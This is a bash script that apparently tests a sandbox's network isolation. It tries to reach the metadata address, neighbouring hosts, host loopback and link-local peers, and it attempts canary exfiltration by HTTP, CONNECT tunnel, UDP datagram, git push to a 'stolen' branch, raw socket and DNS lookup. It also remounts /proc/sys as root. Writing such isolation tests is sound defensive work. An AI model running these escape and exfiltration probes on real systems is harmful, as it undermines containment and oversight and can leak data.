# shellcheck shell=bash
# Whom it reaches.
# shellcheck disable=SC2154

fetch() { curl --silent --show-error --fail --max-time 3 --output /dev/null "$@"; }
directly() { fetch --noproxy '*' "$@"; }

ask_metadata() {
    directly "http://$metadata/" || fetch "http://$metadata/"
}
ask_neighbour() { directly "http://$neighbour_address:8000/" || fetch "http://$neighbour_address:8000/"; }
ask_loopback() { directly "http://127.0.0.1:$loopback/" || directly "http://$host:$loopback/"; }
ask_host() { directly "http://$host:$canary/host-services"; }

# To whoever is on the same link: a host listens there as well, without any address of
# version 4. Whether it was heard is seen outside; here, whether it was answered.
ask_link() {
    [ "$(id -u)" != 0 ] || {
        mount -o remount,rw /proc/sys 2>/dev/null
        echo 0 2>/dev/null >"/proc/sys/net/ipv6/conf/$link/disable_ipv6" && sleep 3
    }
    # shellcheck disable=SC2016
    perl -MSocket=:all -e 'socket my $s, AF_INET6, SOCK_DGRAM, 0 or die "$!\n";
        open my $index, "<", "/sys/class/net/$ENV{link}/ifindex" or die "$!\n";
        my $all = pack_sockaddr_in6 $ENV{datagrams}, inet_pton(AF_INET6, $ENV{link} eq "lo" ? "::1" : "ff02::1"), <$index> + 0;
        send $s, "link-local", 0, $all or die "$!\n";
        alarm 3; recv $s, my $answer, 9, 0 or die "$!\n"'
}

send_datagram() {
    # shellcheck disable=SC2016
    perl -MSocket=:all -e 'socket my $s, AF_INET, SOCK_DGRAM, 0 or die "$!\n";
        send $s, "exfiltrate", 0, pack_sockaddr_in $ENV{datagrams}, inet_aton $ENV{host} or die "$!\n";
        alarm 3; recv $s, my $answer, 9, 0 or die "timed out\n"'
}

# As git would without what tells the worker that a push is not for it. Whether it
# reached anybody is seen outside.
push_elsewhere() {
    env -u GIT_CONFIG_COUNT git push --quiet "http://$host:$canary/exfiltrate-git" HEAD:refs/heads/stolen
}

raw_socket() { perl_it 'socket S, 2, 3, 1'; }

try_the_network() {
    try metadata-address ask_metadata
    try neighbour-network ask_neighbour
    try host-loopback ask_loopback
    try host-services ask_host
    try host-link-local ask_link
    try exfiltrate-http fetch "http://$host:$canary/exfiltrate-http"
    try exfiltrate-connect fetch --proxytunnel "http://$host:$canary/exfiltrate-connect"
    try exfiltrate-datagram send_datagram
    try exfiltrate-git push_elsewhere
    try raw-socket raw_socket
    # That it was refused stands in the job's log.
    getent hosts "exfiltrate-dns.$id.example" >/dev/null
}
